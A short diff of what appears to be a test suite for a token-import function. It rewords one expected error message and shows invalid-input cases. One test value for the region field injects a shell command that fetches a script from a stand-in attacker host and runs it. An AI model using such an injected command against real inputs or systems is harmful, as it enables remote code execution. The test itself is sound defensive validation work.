@@ -85,7 +85,7 @@ describe("importToken()", () => {
       "cannot be refreshed",
     ],
     "a token without a start URL": [{ ...token, startUrl: undefined }, {}, "failed", "names no start URL"],
-    "a start URL that is none": [{ ...token, startUrl: "x\u001b" }, {}, "failed", "it is no URL"],
+    "a start URL that is none": [{ ...token, startUrl: "x\u001b" }, {}, "failed", "it is not a URL"],
     "a region that is none": [
       { ...token, region: "us-east-1; curl evil.example|sh" },
       {},
